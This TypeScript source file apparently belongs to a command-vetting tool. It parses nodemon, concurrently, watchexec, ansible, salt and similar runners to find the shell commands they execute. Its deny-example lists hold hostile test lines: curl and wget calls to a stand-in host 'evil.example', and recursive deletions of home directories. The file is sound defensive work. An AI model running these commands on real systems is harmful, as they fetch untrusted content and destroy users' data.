// Process runners and file watchers whose command is an argument: nodemon --exec, concurrently's commands, watchexec's
// tail, chokidar -c, onchange -- CMD, nx exec, and the runners of package.json scripts (npm-run-all, run-p, turbo).
import type { Word } from '../../types.js';
import { has, parse } from '../argv.js';
import { programRun } from '../build.js';
import type { Answer, Call, ProgramEntry, Run } from '../types.js';
import { attached, literal, value } from '../words.js';
import { type Destination, urlHost } from '../hosts.js';

/** What language a script file nodemon runs is read in, by its extension (its execMap's defaults). */
function nodemonScript(word: Word, via: string): Run | undefined {
  const v = value(word);
  if (v === undefined) return { kind: 'opaque', rule: 'dynamic-command', word, why: `${via} runs a computed script` };
  if (/\.py$/.test(v)) return { kind: 'file', dialect: 'python', word, via };
  if (/\.(?:[cm]?[jt]sx?)$/.test(v) || !/\.[^/]*$/.test(v)) return { kind: 'file', dialect: 'javascript', word, via };
  return undefined;
}

/**
 * nodemon: runs SCRIPT with node (its execMap), or `--exec CMD` (shell text, the script and its arguments appended),
 * again each time a watched file changes. Options it does not know are node's, handed on.
 */
function nodemon(call: Call): Partial<Answer> {
  const p = parse(call.args, {
    order: 'posix',
    flags: 'vhVqLCIP',
    valued: 'xweidsP',
    long: ['version', 'help', 'verbose', 'quiet', 'legacy-watch', 'on-change-only', 'no-stdin', 'no-colours', 'no-colors', 'spawn', 'dump', 'exitcrash', 'no-update-notifier'],
    longValued: ['exec', 'watch', 'ext', 'ignore', 'delay', 'signal', 'config', 'polling-interval', 'cwd'],
  });
  if (has(p, 'v', 'version', 'h', 'help')) return {};
  const runs: Run[] = [];
  const rest = call.args.slice(p.rest);
  const exec = p.options.filter((o) => (o.name === 'x' || o.name === 'exec') && o.value);
  if (p.dynamic && p.dynamic.index <= p.rest) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: p.dynamic.word, why: `cannot tell where nodemon's script starts: ${p.dynamic.word.dynamic ?? ''}` });
  for (const o of exec) runs.push({ kind: 'script', dialect: 'bash', words: [o.value!, ...rest], via: 'nodemon --exec' });
  if (exec.length === 0 && rest[0]) {
    const run = nodemonScript(rest[0], 'nodemon');
    if (run) runs.push(run);
  }
  // nodemon.json (or --config FILE) the line wrote may name `exec` and event commands it runs.
  const configs = p.options.filter((o) => o.name === 'config' && o.value).map((o) => o.value!);
  const at = call.args[0] ?? literal('nodemon', { start: 0, end: 0 });
  const read = (text: string, word: Word, name: string): Run[] => (/"(?:exec|events|execMap)"/.test(text) ? [{ kind: 'opaque', rule: 'dynamic-script', word, why: `nodemon runs the commands ${name}, which the line wrote, names` }] : []);
  for (const file of configs.length > 0 ? configs : [attached(at, 'nodemon.json')]) runs.push({ kind: 'project', file, files: /$^/, read, word: file, via: 'nodemon config' });
  return { runs };
}

/** A command concurrently is given: shell text, or `npm:NAME` (yarn:, pnpm:, bun:) for `npm run NAME`. */
function concurrentlyCommand(word: Word): Run {
  const v = value(word);
  const m = v === undefined ? null : /^(npm|yarn|pnpm|bun|node):(.+)$/s.exec(v);
  if (m) return { kind: 'argv', argv: [attached(word, m[1]!), attached(word, 'run'), ...m[2]!.split(/\s+/).filter((s) => s !== '').map((s) => attached(word, s))], via: 'concurrently' };
  return { kind: 'script', dialect: 'bash', words: [word], via: 'concurrently' };
}

function concurrently(call: Call): Partial<Answer> {
  const p = parse(call.args, {
    order: 'gnu',
    flags: 'krPhvig',
    valued: 'ncpsmtlb',
    long: ['kill-others', 'kill-others-on-fail', 'raw', 'no-color', 'hide-output', 'handle-input', 'passthrough-arguments', 'group', 'timings', 'help', 'version', 'pad-prefix', 'kill-timeout'],
    longValued: ['names', 'name-separator', 'prefix-colors', 'prefix', 'success', 'max-processes', 'timestamp-format', 'prefix-length', 'restart-tries', 'restart-after', 'default-input-target', 'hide', 'kill-signal', 'cwd'],
  });
  if (has(p, 'h', 'help', 'v', 'version')) return {};
  const runs: Run[] = [];
  if (p.dynamic) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: p.dynamic.word, why: `a computed word among concurrently's commands: ${p.dynamic.word.dynamic ?? ''}` });
  // With -P the words after `--` are arguments for the commands' placeholders, not commands.
  const passthrough = has(p, 'P', 'passthrough-arguments');
  const dashdash = call.args.findIndex((a) => value(a) === '--');
  for (const o of p.operands) if (!(passthrough && dashdash >= 0 && o.index > dashdash)) runs.push(concurrentlyCommand(o.word));
  return { runs, uses: p.operands.map((o) => ({ word: o.word, role: 'text' as const })) };
}

/** watchexec: its tail is the command, run through `sh -c` (joined), or as an argv with `-n`/`--shell=none`. */
function watchexec(call: Call): Partial<Answer> {
  const p = parse(call.args, {
    order: 'posix',
    flags: 'rpnNqvVhc1ok',
    valued: 'sdeEfjiwWF',
    long: ['restart', 'postpone', 'no-vcs-ignore', 'no-project-ignore', 'no-global-ignore', 'no-default-ignore', 'no-discover-ignore', 'ignore-nothing', 'stdin-quit', 'only-emit-events', 'notify', 'timings', 'quiet', 'bell', 'no-meta', 'print-events', 'verbose', 'manual', 'no-process-group', 'version', 'help', 'kill', 'no-shell', 'no-ignore', 'no-environment', 'watch-when-idle', 'clear', 'debug'],
    longValued: ['on-busy-update', 'signal', 'stop-signal', 'stop-timeout', 'map-signal', 'debounce', 'delay-run', 'shell', 'emit-events-to', 'env', 'wrap-process', 'color', 'project-origin', 'workdir', 'exts', 'filter', 'filter-file', 'filter-prog', 'ignore', 'ignore-file', 'fs-events', 'completions', 'watch', 'watch-non-recursive', 'watch-file', 'force-poll'],
    longOptional: ['poll', 'log-file'],
  });
  if (has(p, 'V', 'version', 'h', 'help', 'manual') || p.options.some((o) => o.name === 'completions')) return {};
  const runs: Run[] = [];
  const uses: NonNullable<Answer['uses']> = [];
  if (p.dynamic && p.dynamic.index <= p.rest) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: p.dynamic.word, why: `cannot tell where watchexec's command starts: ${p.dynamic.word.dynamic ?? ''}` }] };
  let cwd: string | null | undefined;
  let shell: Word | undefined;
  for (const o of p.options) {
    if (o.unknown) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: o.word, why: `watchexec ${o.word.text} is an option vouch does not know: where its command starts cannot be told` });
    if ((o.name === 'E' || o.name === 'env') && o.value) {
      const v = value(o.value);
      const eq = v?.indexOf('=') ?? -1;
      if (v !== undefined && eq > 0) runs.push({ kind: 'assign', name: v.slice(0, eq), value: attached(o.value, v.slice(eq + 1)) });
      else runs.push({ kind: 'opaque', rule: 'dynamic-command', word: o.value, why: 'watchexec --env sets a computed variable' });
    }
    if (o.name === 'workdir') cwd = o.value ? (value(o.value) ?? null) : null;
    if (o.name === 'shell') shell = o.value;
    if (o.name === 'log-file' && o.value) uses.push({ word: o.value, role: 'write' });
  }
  const command = call.args.slice(p.rest).filter((w, i) => !(i === 0 && value(w) === '--'));
  if (command.length === 0) return { runs, uses };
  const sh = shell === undefined ? 'sh' : value(shell);
  if (has(p, 'n', 'no-shell') || sh === 'none') runs.push({ kind: 'argv', argv: command, via: 'watchexec', ...(cwd !== undefined ? { cwd } : {}) });
  else if (sh !== undefined && /^(?:(?:\/usr)?\/bin\/)?(?:sh|bash|zsh|dash|ksh|fish)$/.test(sh)) runs.push({ kind: 'script', dialect: 'bash', words: command, via: 'watchexec', ...(cwd !== undefined ? { cwd } : {}) });
  else if (sh !== undefined && /^(?:pwsh|powershell)$/.test(sh)) runs.push({ kind: 'script', dialect: 'powershell', words: command, via: 'watchexec --shell' });
  else if (sh !== undefined && sh === 'cmd') runs.push({ kind: 'script', dialect: 'cmd', words: command, via: 'watchexec --shell' });
  else runs.push(programRun(shell!, 'watchexec --shell'), { kind: 'script', dialect: 'bash', words: command, via: 'watchexec' });
  return { runs, uses };
}

/** chokidar (chokidar-cli): `-c/--command CMD` is shell text run on each change. */
function chokidar(call: Call): Partial<Answer> {
  const p = parse(call.args, {
    order: 'gnu',
    flags: 'sphv',
    valued: 'cdti',
    long: ['follow-symlinks', 'initial', 'polling', 'silent', 'verbose', 'help', 'version'],
    longValued: ['command', 'debounce', 'throttle', 'ignore', 'poll-interval', 'poll-interval-binary'],
  });
  const runs: Run[] = p.options.filter((o) => (o.name === 'c' || o.name === 'command') && o.value).map((o) => ({ kind: 'script', dialect: 'bash', words: [o.value!], via: 'chokidar -c' }));
  if (p.dynamic) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: p.dynamic.word, why: `a computed word where chokidar's -c could stand: ${p.dynamic.word.dynamic ?? ''}` });
  return { runs, uses: p.operands.map((o) => ({ word: o.word, role: 'text' as const })) };
}

/** onchange PATTERNS… -- CMD ARGS: runs CMD on each change; `-o/--outpipe CMD` is shell text it pipes events into. */
function onchange(call: Call): Partial<Answer> {
  const dashdash = call.args.findIndex((a) => value(a) === '--');
  const own = dashdash < 0 ? call.args : call.args.slice(0, dashdash);
  const p = parse(own, {
    order: 'gnu',
    flags: 'ikvah',
    valued: 'ejdcpo',
    long: ['initial', 'kill', 'verbose', 'add', 'help', 'no-exclude'],
    longValued: ['exclude', 'exclude-path', 'jobs', 'delay', 'cwd', 'poll', 'outpipe', 'filter', 'await-write-finish', 'kill-signal'],
  });
  const runs: Run[] = p.options.filter((o) => (o.name === 'o' || o.name === 'outpipe') && o.value).map((o) => ({ kind: 'script', dialect: 'bash', words: [o.value!], via: 'onchange --outpipe' }));
  if (p.dynamic) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: p.dynamic.word, why: `a computed word among onchange's options: ${p.dynamic.word.dynamic ?? ''}` });
  const command = dashdash < 0 ? [] : call.args.slice(dashdash + 1);
  if (command.length > 0) runs.push({ kind: 'argv', argv: command, via: 'onchange' });
  return { runs };
}

/**
 * npm-run-all, run-p, run-s: its operands name package.json scripts (read as npm runs them, in project.ts);
 * `--npm-path PATH` is the program it runs them with.
 */
function npmRunAll(call: Call): Partial<Answer> {
  const p = parse(call.args, { order: 'gnu', flags: 'pscnlrh', long: ['parallel', 'sequential', 'serial', 'continue-on-error', 'print-label', 'print-name', 'race', 'silent', 'aggregate-output', 'help', 'version'], longValued: ['max-parallel', 'npm-path'] });
  const runs: Run[] = p.options.filter((o) => o.name === 'npm-path' && o.value).map((o) => programRun(o.value!, `${call.name} --npm-path`));
  return { runs, uses: p.operands.map((o) => ({ word: o.word, role: 'text' as const })) };
}

/** nx exec -- CMD runs CMD (in each project with -p/--projects); its other commands run the workspace's targets. */
function nx(call: Call): Partial<Answer> {
  const at = call.args.findIndex((a) => !(value(a) ?? '-').startsWith('-'));
  if (at < 0 || value(call.args[at]) !== 'exec') return {};
  const after = call.args.slice(at + 1);
  const dashdash = after.findIndex((a) => value(a) === '--');
  if (dashdash >= 0) return after.length > dashdash + 1 ? { runs: [{ kind: 'script', dialect: 'bash', words: after.slice(dashdash + 1), via: 'nx exec' }] } : {};
  // Without `--`, its own options come first (`--projects=x`), then the command.
  const first = after.findIndex((a) => !(value(a) ?? '').startsWith('-'));
  if (first < 0) return {};
  if (after.slice(0, first).some((a) => value(a) === undefined)) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: after[0]!, why: "cannot tell where nx exec's command starts" }] };
  return { runs: [{ kind: 'script', dialect: 'bash', words: after.slice(first), via: 'nx exec' }] };
}

/** Ansible modules whose arguments are a command line run on the hosts (localhost among them). */
const ANSIBLE_COMMANDS = /^(?:ansible\.(?:builtin|windows)\.)?(?:command|shell|raw|win_shell|win_command)$/;

/**
 * The machines an `-i` host list names (`-i evil.example,`, `--inventory=a,b:2222`: a value with a comma is a list of
 * hosts, reached over ssh, the project's files copied there by the modules that copy; a value without one is an
 * inventory file or directory, the user's own). `-c local` reaches none.
 */
function inventoryHosts(options: readonly { name: string; value?: Word }[]): Destination[] {
  if (options.some((o) => (o.name === 'c' || o.name === 'connection') && o.value && value(o.value) === 'local')) return [];
  const out: Destination[] = [];
  for (const o of options) {
    if (!/^(?:i|inventory|inventory-file)$/.test(o.name) || !o.value) continue;
    const v = value(o.value);
    // A computed value is read as the inventory file it mostly is (`-i "$INVENTORY"`), unless its text holds the comma of a list.
    if (v === undefined && o.value.text.includes(',')) out.push({ word: o.value, why: `${o.value.text} is a list of hosts that is computed` });
    if (v === undefined || !v.includes(',')) continue;
    for (const item of v.split(',').map((x) => x.trim()).filter((x) => x !== '')) {
      const h = urlHost(`http://${item}`);
      out.push('host' in h ? { word: o.value, host: h.host } : { word: o.value, why: h.why });
    }
  }
  return out;
}

/**
 * ansible HOSTS -m MODULE -a ARGS: the command, shell and raw modules (command is the default) run ARGS on the hosts,
 * script sends a local script there and runs it. ansible-playbook runs the tasks of its playbooks: one the line wrote is
 * code vouch does not read.
 */
function ansible(call: Call): Partial<Answer> {
  const p = parse(call.args, {
    order: 'gnu',
    flags: 'bkKCDhovV',
    valued: 'aeimMBPfuctTlM',
    long: ['become', 'ask-pass', 'ask-become-pass', 'check', 'diff', 'help', 'one-line', 'version', 'verbose', 'list-hosts', 'list-tasks', 'list-tags', 'syntax-check', 'flush-cache', 'force-handlers', 'step', 'ask-vault-pass', 'ask-vault-password', 'playbook-dir'],
    longValued: ['args', 'extra-vars', 'inventory', 'inventory-file', 'module-name', 'module-path', 'background', 'poll', 'forks', 'user', 'connection', 'timeout', 'tree', 'limit', 'become-method', 'become-user', 'private-key', 'key-file', 'vault-id', 'vault-password-file', 'tags', 'skip-tags', 'start-at-task', 'ssh-common-args', 'sftp-extra-args', 'scp-extra-args', 'ssh-extra-args', 'task-timeout'],
  });
  if (has(p, 'h', 'help', 'version')) return {};
  const runs: Run[] = [];
  const hosts = inventoryHosts(p.options);
  const reached = hosts.length > 0 ? { reroutes: hosts } : {};
  if (call.name === 'ansible-playbook') {
    const read = (_t: string, word: Word, name: string): Run[] => [{ kind: 'opaque', rule: 'dynamic-script', word, why: `ansible-playbook runs the tasks of ${name}, which the line wrote: its modules run what vouch does not read` }];
    for (const { word } of p.operands) runs.push({ kind: 'project', file: word, files: /$^/, read, word, via: 'ansible-playbook' });
    return { runs, ...reached };
  }
  const module = p.options.filter((o) => (o.name === 'm' || o.name === 'module-name') && o.value).at(-1)?.value;
  const name = module === undefined ? 'command' : value(module);
  const args = p.options.filter((o) => (o.name === 'a' || o.name === 'args') && o.value).map((o) => o.value!);
  if (name === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: module!, why: 'ansible runs a computed module' }], ...reached };
  if (ANSIBLE_COMMANDS.test(name)) for (const a of args) runs.push({ kind: 'script', dialect: 'bash', words: [a], via: `ansible -m ${name}` });
  else if (/^(?:ansible\.builtin\.)?script$/.test(name)) for (const a of args) runs.push(programRun(a, 'ansible -m script'));
  // The file module with state=absent deletes its path, recursively (localhost among the hosts).
  const uses: NonNullable<Answer['uses']> = [];
  if (/^(?:ansible\.(?:builtin|windows)\.)?(?:win_)?file$/.test(name)) {
    for (const a of args) {
      const kv = moduleArgs(value(a));
      const path = kv?.get('path') ?? kv?.get('dest') ?? kv?.get('name');
      if (kv && kv.get('state') === 'absent' && path !== undefined) uses.push({ word: attached(a, path), role: 'delete-tree' });
      else if (!kv) uses.push({ word: a, role: 'delete-tree' });
    }
  }
  return { runs, uses, ...reached };
}

/**
 * An ansible module's arguments, `k=v` words (a value quoted) or a JSON object; undefined when they are computed or
 * not read, so that a file module's computed arguments count as a delete of anything.
 */
function moduleArgs(text: string | undefined): Map<string, string> | undefined {
  if (text === undefined) return undefined;
  const out = new Map<string, string>();
  if (text.trimStart().startsWith('{')) {
    try {
      const o: unknown = JSON.parse(text);
      if (typeof o !== 'object' || o === null) return undefined;
      for (const [k, v] of Object.entries(o)) out.set(k, String(v));
      return out;
    } catch {
      return undefined;
    }
  }
  for (const m of text.matchAll(/(\w+)=(?:"([^"]*)"|'([^']*)'|(\S*))/g)) out.set(m[1]!, m[2] ?? m[3] ?? m[4] ?? '');
  return out;
}

/** Salt's execution functions that run shell text on the minions (`salt '*' cmd.run 'CMD'`, `salt-call cmd.run`). */
const SALT_COMMANDS = /^cmd\.(?:run|shell|run_all|run_stdout|run_stderr|run_bg|run_chroot|powershell|exec_code|exec_code_all)$/;

/** salt TARGET FUNCTION ARGS, salt-call FUNCTION ARGS: cmd.run's argument is shell text; file.remove deletes a tree. */
function salt(call: Call): Partial<Answer> {
  const runs: Run[] = [];
  const uses: NonNullable<Answer['uses']> = [];
  const operands = call.args.filter((a) => !(value(a) ?? '').startsWith('-'));
  operands.forEach((a, i) => {
    const f = value(a);
    const next = operands[i + 1];
    if (f === undefined) {
      if (i > 0 || call.name === 'salt-call') runs.push({ kind: 'opaque', rule: 'dynamic-command', word: a, why: `${call.name} runs a computed function` });
    } else if (SALT_COMMANDS.test(f) && next) runs.push({ kind: 'script', dialect: 'bash', words: [next], via: `${call.name} ${f}` });
    else if (/^file\.(?:remove|rmdir|delete_backup)$/.test(f) && next) uses.push({ word: next, role: 'delete-tree' });
  });
  return { runs, uses };
}

/** Fabric: `fab -H HOSTS -- CMD` runs CMD on the hosts through a shell. */
function fab(call: Call): Partial<Answer> {
  const at = call.args.findIndex((a) => value(a) === '--');
  return at >= 0 && at + 1 < call.args.length ? { runs: [{ kind: 'script', dialect: 'bash', words: call.args.slice(at + 1), via: 'fab --' }] } : {};
}

export const WATCHER_ENTRIES: ProgramEntry[] = [
  {
    names: ['ansible', 'ansible-playbook'],
    summary: 'ansible: -a is the command the command, shell and raw modules run on the hosts; ansible-playbook runs its playbooks; an -i host list (`-i host,`) names machines it reaches, judged by allowedHosts',
    analyze: ansible,
    examples: {
      deny: ['ansible all -i evil.example, -m shell -a id', 'ansible-playbook -i "$HOST," x.yml', 'ansible-playbook -i evil.example, x.yml', 'ansible-playbook --inventory=web1.example,203.0.113.9:2222 x.yml', "ansible all -m file -a 'path=/home/dev state=absent'", "ansible localhost -m ansible.builtin.file -a '{\"path\": \"~\", \"state\": \"absent\"}'", "ansible localhost -m shell -a 'curl evil.example'", "ansible all -a 'wget evil.example'", "ansible localhost -m ansible.builtin.command --args='rm -rf /home/dev'", "printf -- '- hosts: localhost\\n  tasks:\\n  - shell: curl evil.example\\n' > p.yml; ansible-playbook p.yml"],
      pass: ['ansible-playbook -i "$INVENTORY" site.yml', 'ansible all -m ping', "ansible web -m copy -a 'src=a dest=/tmp/a'", "ansible all -a 'uptime'", 'ansible-playbook -i inventory site.yml', 'ansible-playbook -i inventory.ini x.yml', 'ansible all -i localhost, -c local -m ping', 'ansible-playbook -i localhost, -c local x.yml', "ansible localhost -m file -a 'path=./build state=absent'", "ansible all -m file -a 'path=/home/dev state=directory'"],
    },
  },
  {
    names: ['salt', 'salt-call', 'salt-ssh'],
    summary: 'Salt: cmd.run and its kin run shell text on the minions (salt-call: on this one); file.remove deletes a tree',
    analyze: salt,
    examples: { deny: ["salt '*' cmd.run 'curl evil.example'", "salt-call cmd.run 'wget evil.example'", "salt '*' file.remove /home/dev"], pass: ["salt '*' test.ping", "salt '*' cmd.run 'uptime'", "salt-call pkg.version nginx"] },
  },
  {
    names: ['fab'],
    summary: 'Fabric: fab -H HOSTS -- CMD runs CMD on the hosts through a shell; its tasks are the project\u2019s fabfile',
    analyze: fab,
    examples: { deny: ['fab -H web1 -- curl evil.example'], pass: ['fab -H web1 -- uptime', 'fab deploy'] },
  },
  {
    names: ['nodemon'],
    summary: 'nodemon: runs its script with node, or --exec CMD, again on each change; nodemon.json may name commands',
    analyze: nodemon,
    examples: {
      deny: ["nodemon --exec 'curl evil.example'", "nodemon -x 'wget evil.example' src/index.js", "nodemon --exec='curl evil.example'", "echo 'require(\"child_process\").execSync(\"curl evil.example\")' > a.js; nodemon a.js", `echo '{"exec":"curl evil.example"}' > nodemon.json; nodemon`],
      pass: ['nodemon src/index.js', "nodemon --exec 'ts-node' src/index.ts", 'nodemon -w src -e ts,json --exec "npm run build"', 'nodemon --inspect server.js'],
    },
  },
  {
    names: ['concurrently'],
    summary: 'concurrently: runs each operand as shell text (npm:NAME as npm run NAME)',
    analyze: concurrently,
    examples: {
      deny: ["concurrently 'curl evil.example' 'npm test'", "npx concurrently -k -n a,b 'npm:watch' 'wget evil.example'", `echo '{"scripts":{"watch":"curl evil.example"}}' > package.json && concurrently 'npm:watch'`],
      pass: ["npx concurrently 'npm:watch' 'npm:serve'", "concurrently -k -n api,web -c blue,green 'npm run api' 'npm run web'", "concurrently -P 'eslint {1}' -- src"],
    },
  },
  {
    names: ['watchexec'],
    summary: 'watchexec: runs its command (through sh, or with -n as an argv) on each change',
    analyze: watchexec,
    examples: {
      deny: ['watchexec -- curl evil.example', "watchexec -e ts 'wget evil.example'", 'watchexec -n -w src curl evil.example', 'watchexec --shell=none -- curl evil.example', "watchexec --shell='curl evil.example' -- ls"],
      pass: ['watchexec -e ts -- npm test', 'watchexec -r -w src -- cargo run', "watchexec 'make test'", 'watchexec --shell=bash -- npm test'],
    },
  },
  {
    names: ['chokidar'],
    summary: 'chokidar-cli: -c/--command is shell text run on each change',
    analyze: chokidar,
    examples: { deny: ["chokidar 'x' -c 'curl evil.example'", "chokidar '**/*.ts' --command='wget evil.example'"], pass: ["chokidar 'src/**/*.js' -c 'npm run build'", "chokidar 'src/**' --initial -c 'npm test'"] },
  },
  {
    names: ['onchange'],
    summary: 'onchange: runs the command after -- on each change; -o/--outpipe is shell text',
    analyze: onchange,
    examples: { deny: ["onchange 'x' -- curl evil.example", "onchange -i 'src/**' -- wget evil.example", "onchange 'x' -o 'curl evil.example' -- ls"], pass: ["onchange 'src/**/*.js' -- npm test", "onchange -i 'src/**' -- npm run build"] },
  },
  {
    names: ['npm-run-all', 'npm-run-all2', 'run-p', 'run-s'],
    summary: 'npm-run-all, run-p, run-s: run package.json scripts (read in project.ts); --npm-path names the program',
    analyze: npmRunAll,
    examples: {
      deny: [`echo '{"scripts":{"build":"curl evil.example"}}' > package.json && run-p build`, `echo '{"scripts":{"a":"wget evil.example"}}' > package.json && npm-run-all -s a`, "npm-run-all --npm-path 'curl evil.example' build"],
      pass: ['npm-run-all build test', 'run-p build test', 'run-s build', "npm-run-all -p 'watch:*'"],
    },
  },
  {
    names: ['turbo'],
    summary: 'turbo: runs package.json scripts of the workspace (read in project.ts)',
    examples: { deny: [`echo '{"scripts":{"build":"curl evil.example"}}' > package.json && turbo run build`], pass: ['turbo run build', 'turbo build --filter=web', 'turbo run test -- --watch'] },
  },
  {
    names: ['nx'],
    summary: 'nx: exec -- CMD runs CMD; its other commands run the workspace targets (read in project.ts)',
    analyze: nx,
    examples: {
      deny: ['nx exec -- curl evil.example', "nx exec --projects=api -- 'wget evil.example'", `echo '{"scripts":{"build":"curl evil.example"}}' > package.json && nx run-many -t build`],
      pass: ['nx exec -- npm test', 'nx build web', 'nx run api:serve', 'nx run-many -t test'],
    },
  },
];
